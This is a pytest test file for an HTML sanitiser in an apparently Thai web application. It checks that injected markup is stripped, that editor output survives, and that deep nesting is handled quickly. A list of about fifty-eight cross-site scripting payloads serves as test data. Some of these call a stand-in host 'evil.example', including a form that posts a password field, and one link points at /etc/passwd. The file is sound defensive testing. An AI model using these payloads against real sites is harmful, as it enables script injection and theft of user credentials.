import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core import richtext

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \t javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java\u200bscript:alert(1)'>x</a>",
    "<a href='java&#x200b;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<p onclick=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<td onmouseover=alert(1)>x</td>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><input name=password><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p id=csrfmiddlewaretoken name=cookie>x</p>",
    "<a href=x target=_blank ping='https://evil.example/'>x</a>",
    "<x-evil onclick=alert(1) is=button>x</x-evil>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    "<figure class='table\" onload=alert(1)'>x</figure>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
]


class Suspect(HTMLParser):
    """Notes whatever is not plainly harmless, reading addresses as a browser does."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in richtext.TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if not self.is_harmless(tag, name, value or ""):
                self.found.append(f"{tag} {name}={value}")

    def is_harmless(self, tag: str, name: str, value: str) -> bool:
        if name in ("href", "src"):
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", value).lower())
            return scheme is None or scheme[1] in ("http", "https", "mailto")
        if name == "class":
            return tag == "figure" and set(value.split()) <= {"table", "image"}
        if name in ("colspan", "rowspan"):
            return tag in ("td", "th") and re.fullmatch("[1-9][0-9]?", value) is not None
        return (tag, name, value) == ("a", "rel", "noopener") or (tag, name) == ("img", "alt")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}")


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_active_is_left(vector: str) -> None:
    for html in (vector, f"<p>ก{vector}ข</p>", f"<table><tr><td>{vector}</td></tr></table>"):
        clean = richtext.sanitise(html)
        assert Suspect(clean).found == []
        assert richtext.sanitise(clean) == clean


PIECES = (
    "<p> </p> <b> <table> <tr><td> <svg> <math> <style> </style> <a\thref=' '> <!-- --> <img\tsrc=x\talt=' <script> "
    '</script> <title> <noscript> <textarea> java\u200bscript: &lt; &#x3c; \x00 เเ น\u0e4dา <li> " > <mtext> <mglyph>'
)
markup = st.lists(st.sampled_from(PIECES.split(" ")) | st.text(max_size=4)).map("".join)


@given(markup)
def test_cleaning_twice_changes_nothing_and_leaves_nothing_active(html: str) -> None:
    clean = richtext.sanitise(html)
    assert Suspect(clean).found == []
    assert richtext.sanitise(clean) == clean
    assert isinstance(richtext.to_text(html), str)


@pytest.mark.parametrize(
    "html",
    [
        "<h2>หัวข้อ</h2><h3>หัวข้อย่อย</h3><h4>ย่อยลงไป</h4><p>เนื้อหา<br>บรรทัดใหม่</p><hr>",
        "<p><strong>หนา</strong> <b>หนา</b> <em>เอน</em> <i>เอน</i> <u>ขีด</u> <s>ฆ่า</s></p><p>H<sub>2</sub>O</p>",
        "<ul><li>หนึ่ง<ol><li>ย่อย</li></ol></li></ul><blockquote><p>อ้าง m<sup>2</sup></p></blockquote>",
        "<pre><code>x = 1</code></pre>",
        '<figure class="table"><table><thead><tr><th>ก</th></tr></thead><tbody><tr><td colspan="2" rowspan="3">ข</td>'
        "</tr></tbody></table><figcaption>ตาราง</figcaption></figure>",
        '<figure class="image"><img src="/media/a.webp" alt="ภาพ"></figure>',
        '<p><a href="https://www.moi.go.th/?a=1&amp;b=2" rel="noopener">ก</a> '
        '<a href="mailto:km@example.go.th" rel="noopener">ข</a> '
        '<a href="/groups/" rel="noopener">ค</a></p>',
        "<p>1 &lt; 2 &amp; 3</p>",
    ],
)
def test_what_the_editor_writes_stays(html: str) -> None:
    assert richtext.sanitise(html) == html


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        (
            '<figure class="table evil ck-widget" style="width:50%"><table></table>ก</figure>',
            '<figure class="table"><table></table>ก</figure>',
        ),
        ('<td colspan="999999">x</td>', "x"),
        (
            '<table><tr><td colspan="0" rowspan="100" width="9">x</td></tr></table>',
            "<table><tbody><tr><td>x</td></tr></tbody></table>",
        ),
        ('<a href="/x" rel="opener" target="_blank">x</a>', '<a href="/x" rel="noopener">x</a>'),
        ("<p>เเม่น\u0e4d\u0e49า\u200b</p>", "<p>แม่น้ำ</p>"),
        ("<p>a\x00b\x0bc\ud800d&#1;</p>", "<p>abcd</p>"),
        ("<div>ก</div>", "ก"),
        ("<p>&nbsp;</p>", ""),
        ("<p> <br> </p><ul><li></li></ul>", ""),
        ("<p><img></p>", ""),
        ("", ""),
    ],
)
def test_sanitise(html: str, clean: str) -> None:
    assert richtext.sanitise(html) == clean


@pytest.mark.parametrize("unit", ["<ul><li>", "<blockquote>", "<UL></x><li>", "<b>", "<table><tr><td>", "<svg><g>"])
def test_deep_nesting_is_shown_as_text_in_linear_time(unit: str) -> None:
    begun = time.process_time()
    clean = richtext.sanitise((unit * 25_000)[:200_000] + "ก")
    assert time.process_time() - begun < 3
    assert Suspect(clean).found == []
    assert clean.startswith("&lt;")


def test_ordinary_depth_is_no_hindrance() -> None:
    html = "<ul><li>" * 20 + "ก" + "</li></ul>" * 20 + "<p><b>ข</b></p>" * 3000
    assert richtext.sanitise(html) == html


def test_to_text_keeps_words_and_lines_apart() -> None:
    html = (
        "<h2>หัว</h2><p>หนึ่ง <b>ส</b>อง<br>สาม &amp; สี่</p><ul><li>ก</li><li>ข</li></ul>"
        '<table><tr><th>1</th><td>2</td></tr></table><img src="/a.webp" alt="ภาพ"><script>no()</script>'
    )
    assert richtext.to_text(html) == "หัว\nหนึ่ง สอง\nสาม & สี่\n• ก\n• ข\n1 2\nภาพ"


def test_plain_text_becomes_paragraphs() -> None:
    assert richtext.from_plain_text("ย่อหน้า R&D 1 < 2\nต่อ\n\nใหม่") == "<p>ย่อหน้า R&amp;D 1 &lt; 2<br>ต่อ</p>\n\n<p>ใหม่</p>"
